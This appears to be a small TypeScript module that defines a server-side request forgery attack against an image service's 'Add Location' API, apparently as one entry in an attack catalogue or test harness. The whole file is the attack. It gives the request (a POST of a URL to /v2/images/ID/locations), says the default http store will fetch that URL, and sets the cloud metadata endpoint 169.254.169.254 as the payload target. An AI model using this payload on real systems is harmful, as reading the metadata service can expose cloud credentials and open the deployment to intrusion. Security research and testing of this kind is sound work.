// The Add Location API makes an http store fetch any URL.
import { createLocationAttack } from '../mechanisms/location-attack';

export const attack = createLocationAttack({
  id: 'ssrf-location-api',
  title: 'Add Location API as an unfiltered fetch',
  words:
    'POST /v2/images/ID/locations with a URL: the http store, enabled by default and by every large deployment tool, reads the metadata service and hands the bytes to the member (measured on 2025.1).',
  url: () => 'http://169.254.169.254/latest/meta-data/',
  leadsTo: '169.254.169.254',
});
